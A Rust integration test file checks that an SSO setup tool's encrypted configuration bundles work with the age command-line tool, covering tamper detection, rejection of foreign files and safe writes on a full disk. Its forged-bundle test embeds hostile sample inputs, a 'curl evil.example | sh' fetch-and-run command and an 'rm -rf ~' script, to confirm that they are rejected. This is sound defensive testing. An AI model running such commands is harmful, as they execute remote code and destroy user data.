//! Bundles work with the reference `age` command-line tool, Debian's `/usr/bin/age` and
//! `/usr/bin/age-keygen` 1.1.1, which the project's setup script installs. The tests check:
//! - Our exported bundles open with `age -d`.
//! - Files that `age` writes (armored or binary) to a key made by `age-keygen` open with our
//!   `open` and `decrypt`.
//! - A changed byte is refused by both tools.
//! - Passphrase bundles and foreign files are refused cleanly.
//!
//! Security catalogue cases 73 to 75.

use secrecy::SecretString;
use sso_setup::connections::bundle::{
    decrypt, export, generate_identity, open, parse_recipient, seal, BundleError, BundlePayload, BundleRecipients,
    OpenWith, BUNDLE_FORMAT,
};
use std::path::Path;
use std::process::{Command, Output};
use zeroize::Zeroizing;

const AGE: &str = "/usr/bin/age";
const AGE_KEYGEN: &str = "/usr/bin/age-keygen";
const SECRET: &str = "interop-secret-value";

fn run(program: &str, args: &[&str]) -> Output {
    assert!(
        Path::new(program).exists(),
        "{program} is missing: install Debian's age package (the project's setup script does) to run these tests"
    );
    Command::new(program).args(args).output().unwrap_or_else(|error| panic!("{program} could not be run: {error}"))
}

fn text_of(path: &Path) -> &str {
    path.to_str().expect("the temporary path is UTF-8")
}

fn payload() -> BundlePayload {
    BundlePayload {
        format: BUNDLE_FORMAT.into(),
        vendor: "pelanor".into(),
        org: Some("acme".into()),
        region: Some("eu".into()),
        idp: "okta".into(),
        issuer: "https://acme.okta.com".into(),
        discovery_url: "https://acme.okta.com/.well-known/openid-configuration".into(),
        client_id: "0oa123interop".into(),
        client_secret: SECRET.into(),
        token_endpoint_auth_method: Some("client_secret_basic".into()),
        scopes: vec!["openid".into(), "email".into(), "profile".into()],
        redirect_uris: vec!["https://app-eu.pelanor.io/api/auth/callback/okta-acme".into()],
        sign_out_uris: vec!["https://app-eu.pelanor.io/signed-out".into()],
        created_at: "2026-11-23T00:00:00Z".into(),
        secret_expires: Some("2027-11-23".into()),
        test_report: Some(serde_json::json!({ "passed": true, "checks": 12 })),
    }
}

/// Our own key pair, with the identity written to `vendor.key` in `folder`.
fn our_key_pair(folder: &Path) -> (Zeroizing<String>, String, std::path::PathBuf) {
    let (identity_text, recipient) = generate_identity("2026-11-23");
    let identity_path = folder.join("vendor.key");
    std::fs::write(&identity_path, identity_text.as_bytes()).expect("the identity file is written");
    (identity_text, recipient, identity_path)
}

/// Runs `age-keygen -o`, then returns the key file text and its public key.
fn age_keygen(folder: &Path) -> (Zeroizing<String>, String) {
    let key_path = folder.join("age-keygen.key");
    let output = run(AGE_KEYGEN, &["-o", text_of(&key_path)]);
    assert!(output.status.success(), "age-keygen failed: {}", String::from_utf8_lossy(&output.stderr));
    let key_text = Zeroizing::new(std::fs::read_to_string(&key_path).expect("age-keygen wrote the key file"));
    let recipient = key_text
        .lines()
        .find_map(|line| line.strip_prefix("# public key: "))
        .expect("the key file has a '# public key:' line")
        .trim()
        .to_owned();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(&format!("Public key: {recipient}")), "age-keygen printed the same public key: {stderr}");
    (key_text, recipient)
}

/// Encrypts our payload JSON with the `age` tool (`-a` when `armored`) and returns the file.
fn age_encrypt(folder: &Path, recipient: &str, armored: bool) -> Vec<u8> {
    let json_path = folder.join("payload.json");
    std::fs::write(&json_path, serde_json::to_vec(&payload()).expect("the payload serialises"))
        .expect("the JSON is written");
    let out_path = folder.join(if armored { "bundle.age.asc" } else { "bundle.age" });
    let mut args = vec!["-r", recipient, "-o", text_of(&out_path), text_of(&json_path)];
    if armored {
        args.insert(0, "-a");
    }
    let output = run(AGE, &args);
    assert!(output.status.success(), "age {args:?} failed: {}", String::from_utf8_lossy(&output.stderr));
    std::fs::read(&out_path).expect("age wrote the encrypted file")
}

#[test]
fn our_bundle_opens_with_age_cli() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let (_, recipient, identity_path) = our_key_pair(folder.path());
    let bundle_path = folder.path().join("acme.ssobundle");
    let recipients = BundleRecipients::Keys(vec![parse_recipient(&recipient).expect("our own recipient parses")]);
    export(&payload(), &recipients, &bundle_path).expect("the bundle is exported");
    let bytes = std::fs::read(&bundle_path).expect("the bundle is readable");
    assert!(bytes.starts_with(b"-----BEGIN AGE ENCRYPTED FILE-----"), "the bundle is ASCII-armored");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&bundle_path).expect("the bundle has metadata").permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "only the owner can read the bundle (mode {mode:o})");
    }
    let output = run(AGE, &["-d", "-i", text_of(&identity_path), text_of(&bundle_path)]);
    assert!(output.status.success(), "age -d refused our bundle: {}", String::from_utf8_lossy(&output.stderr));
    let opened: serde_json::Value = serde_json::from_slice(&output.stdout).expect("age -d prints our JSON payload");
    assert_eq!(opened["client_secret"], SECRET, "age -d returns the client secret");
    assert_eq!(opened["format"], "sso-setup-bundle/1", "the payload names its format");
}

#[test]
fn age_cli_file_opens_with_our_open() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let (key_text, recipient) = age_keygen(folder.path());
    let bytes = age_encrypt(folder.path(), &recipient, true);
    assert!(bytes.starts_with(b"-----BEGIN AGE ENCRYPTED FILE-----"), "age -a writes an armored file");
    let opened = open(&bytes, &OpenWith::IdentityFile(key_text)).expect("our open reads the file age wrote");
    assert_eq!(opened.client_secret, SECRET, "our open returns the client secret age encrypted");
    assert_eq!(opened.format, BUNDLE_FORMAT, "the payload keeps its format");
}

#[test]
fn age_cli_binary_file_opens_too() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let (key_text, recipient) = age_keygen(folder.path());
    let bytes = age_encrypt(folder.path(), &recipient, false);
    assert!(bytes.starts_with(b"age-encryption.org/v1\n"), "without -a, age writes a binary file");
    let plaintext = decrypt(&bytes, &OpenWith::IdentityFile(key_text)).expect("our decrypt reads a binary age file");
    let opened: serde_json::Value = serde_json::from_slice(plaintext.as_slice()).expect("the plaintext is our JSON");
    assert_eq!(opened["client_secret"], SECRET, "decrypt returns the client secret age encrypted");
}

/// `age` reads passphrases only from a terminal, so this test checks our own side: a
/// passphrase bundle opens with its passphrase and nothing else, and a wrong way of opening
/// is reported as such.
#[test]
fn a_passphrase_bundle_opens_only_with_its_passphrase() {
    let passphrase = || SecretString::from("correct horse battery staple".to_owned());
    let sealed = seal(&payload(), &BundleRecipients::Passphrase(passphrase())).expect("a passphrase bundle is sealed");
    let opened = open(&sealed, &OpenWith::Passphrase(passphrase())).expect("the right passphrase opens it");
    assert_eq!(opened.client_secret, SECRET, "the passphrase bundle keeps the client secret");
    let wrong = open(&sealed, &OpenWith::Passphrase(SecretString::from("wrong passphrase".to_owned())))
        .expect_err("a wrong passphrase does not open it");
    assert!(
        matches!(wrong, BundleError::WrongPassphrase),
        "a wrong passphrase is reported as WrongPassphrase: {wrong:?}"
    );
    let (identity_text, recipient, _) = our_key_pair(tempfile::tempdir().expect("a temporary folder").path());
    let with_key =
        open(&sealed, &OpenWith::IdentityFile(identity_text)).expect_err("a key does not open a passphrase bundle");
    assert!(
        matches!(with_key, BundleError::NoMatchingKey),
        "a key on a passphrase bundle gives NoMatchingKey: {with_key:?}"
    );
    let keyed =
        seal(&payload(), &BundleRecipients::Keys(vec![parse_recipient(&recipient).expect("our recipient parses")]))
            .expect("a key bundle is sealed");
    let error = open(&keyed, &OpenWith::Passphrase(passphrase())).expect_err("a passphrase does not open a key bundle");
    assert!(
        matches!(error, BundleError::WrongPassphrase),
        "a passphrase on a key bundle gives WrongPassphrase: {error:?}"
    );
}

#[test]
fn one_changed_byte_is_refused_by_both() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let (identity_text, recipient, identity_path) = our_key_pair(folder.path());
    let bundle_path = folder.path().join("acme.ssobundle");
    let recipients = BundleRecipients::Keys(vec![parse_recipient(&recipient).expect("our own recipient parses")]);
    export(&payload(), &recipients, &bundle_path).expect("the bundle is exported");
    let text = std::fs::read_to_string(&bundle_path).expect("the armored bundle is text");
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() >= 5, "the armored bundle has several body lines: {}", lines.len());
    // Change one base64 character in a middle line of the body.
    let middle = lines.len() / 2;
    let mut characters: Vec<char> = lines[middle].chars().collect();
    characters[3] = if characters[3] == 'A' { 'B' } else { 'A' };
    let changed_line: String = characters.into_iter().collect();
    let mut changed = lines.clone();
    changed[middle] = &changed_line;
    let tampered = changed.join("\n") + "\n";
    let tampered_path = folder.path().join("tampered.ssobundle");
    std::fs::write(&tampered_path, &tampered).expect("the changed bundle is written");

    let error = open(tampered.as_bytes(), &OpenWith::IdentityFile(identity_text)).expect_err("our open refuses it");
    assert!(
        matches!(error, BundleError::Tampered(_) | BundleError::NotAnAgeFile(_)),
        "our open reports the change as tampering or damage: {error:?}"
    );
    let output = run(AGE, &["-d", "-i", text_of(&identity_path), text_of(&tampered_path)]);
    assert!(!output.status.success(), "age -d must refuse the changed bundle, but it exited 0");
    assert!(!String::from_utf8_lossy(&output.stdout).contains(SECRET), "age -d printed no unauthenticated secret");
}

#[test]
fn a_foreign_file_is_refused() {
    let (identity_text, _) = generate_identity("2026-11-23");
    let json = serde_json::to_vec(&payload()).expect("the payload serialises");
    let certificate: &[u8] =
        b"-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQk9HVVMtQ0VSVElGSUNBVEUwCgYIKoZIzj0EAwIw\n\
        -----END CERTIFICATE-----\n";
    let foreign: [(&str, &[u8]); 3] =
        [("a JSON file", json.as_slice()), ("an empty file", &b""[..]), ("a PEM certificate", certificate)];
    for (what, bytes) in foreign {
        for with in
            [OpenWith::IdentityFile(identity_text.clone()), OpenWith::Passphrase(SecretString::from("x".to_owned()))]
        {
            match open(bytes, &with) {
                Ok(_) => panic!("{what} was opened as a bundle"),
                Err(error) => {
                    assert!(
                        matches!(error, BundleError::NotAnAgeFile(_)),
                        "{what} is reported as not an age file: {error:?}"
                    )
                }
            }
        }
    }
}

/// Encrypts `plaintext` to `recipient` with Debian's `age -a`, as anyone who holds the
/// vendor's public key can.
fn forge_with_age_cli(recipient: &str, plaintext: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = Command::new(AGE)
        .args(["-e", "-a", "-r", recipient])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("age runs");
    // Written from a thread: age writes its output while it reads, and a large plaintext
    // would fill both pipes if this thread wrote it all before reading.
    let mut stdin = child.stdin.take().unwrap();
    let plaintext = plaintext.to_vec();
    let writer = std::thread::spawn(move || stdin.write_all(&plaintext));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert!(output.status.success());
    output.stdout
}

/// #74: a bundle forged by anyone holding the vendor's public key decrypts fine (age has no
/// sender authentication), so what is inside is held to the payload's schema and size cap,
/// and `bundle open` says that age proves nothing about the sender.
#[test]
fn a_forged_bundle_is_treated_as_unauthenticated_input() {
    let folder = tempfile::tempdir().unwrap();
    let (identity_text, recipient, identity_path) = our_key_pair(folder.path());
    let with = || OpenWith::IdentityFile(identity_text.clone());
    let mut extra_field = serde_json::to_value(payload()).unwrap();
    extra_field["run_after_import"] = "curl evil.example | sh".into();
    let mut other_format = serde_json::to_value(payload()).unwrap();
    other_format["format"] = "sso-setup-bundle/9".into();
    let mut secret_as_number = serde_json::to_value(payload()).unwrap();
    secret_as_number["client_secret"] = 42.into();
    let oversized =
        serde_json::to_vec(&serde_json::json!({"format": BUNDLE_FORMAT, "padding": "x".repeat(300 * 1024)})).unwrap();
    for (case, plaintext, expected) in [
        ("an unknown field", serde_json::to_vec(&extra_field).unwrap(), "bundle-not-a-bundle"),
        ("another format", serde_json::to_vec(&other_format).unwrap(), "bundle-not-a-bundle"),
        ("a wrong type", serde_json::to_vec(&secret_as_number).unwrap(), "bundle-not-a-bundle"),
        ("not JSON", b"#!/bin/sh\nrm -rf ~\n".to_vec(), "bundle-not-a-bundle"),
        ("over the payload cap", oversized, "bundle-payload-too-large"),
    ] {
        let forged = forge_with_age_cli(&recipient, &plaintext);
        let error = open(&forged, &with()).unwrap_err();
        assert_eq!(sso_setup::error::UserFacingError::code(&error), expected, "{case}: {error:?}");
    }
    // A well-formed forgery opens: nothing in age can tell it from a real one, and the
    // command line says so every time.
    let forged =
        forge_with_age_cli(&recipient, &serde_json::to_vec(&serde_json::to_value(payload()).unwrap()).unwrap());
    let bundle_path = folder.path().join("forged.age");
    std::fs::write(&bundle_path, forged).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_sso-setup"))
        .args(["bundle", "open", text_of(&bundle_path), "--identity", text_of(&identity_path)])
        .output()
        .unwrap();
    assert!(output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("age does not prove who made a bundle"));
}

/// #75: a write that runs out of space (here: a file size limit of 0 blocks, the way a full
/// disk refuses the first block) fails with the reason and leaves nothing behind, neither
/// the file nor the temporary file it is written through. Bundles and keys share that path
/// (a temporary file in the same folder, then one rename or link).
#[test]
fn a_write_that_runs_out_of_space_leaves_nothing_behind() {
    let folder = tempfile::tempdir().unwrap();
    let key = folder.path().join("vendor.key");
    // SIGXFSZ ignored, so the write fails with EFBIG as on a full disk instead of killing.
    let output = Command::new("bash")
        .args(["-c", "trap '' XFSZ; ulimit -f 0; exec \"$0\" bundle keygen -o \"$1\""])
        .arg(env!("CARGO_BIN_EXE_sso-setup"))
        .arg(&key)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{stderr}");
    assert!(stderr.starts_with("error: ") && stderr.contains("could not be written"), "{stderr}");
    assert!(stderr.contains("hint: "), "{stderr}");
    assert!(output.stdout.is_empty(), "no public key is printed for a key that was not saved");
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0, "no file, no temporary file");
    // And an export into a folder that cannot take it writes nothing either.
    let (_, recipient, _) = our_key_pair(folder.path());
    let recipients = BundleRecipients::Keys(vec![parse_recipient(&recipient).unwrap()]);
    let error = export(&payload(), &recipients, &folder.path().join("missing-folder").join("b.age")).unwrap_err();
    assert!(matches!(error, BundleError::WriteFailed { .. }), "{error:?}");
    assert!(!folder.path().join("missing-folder").exists());
}
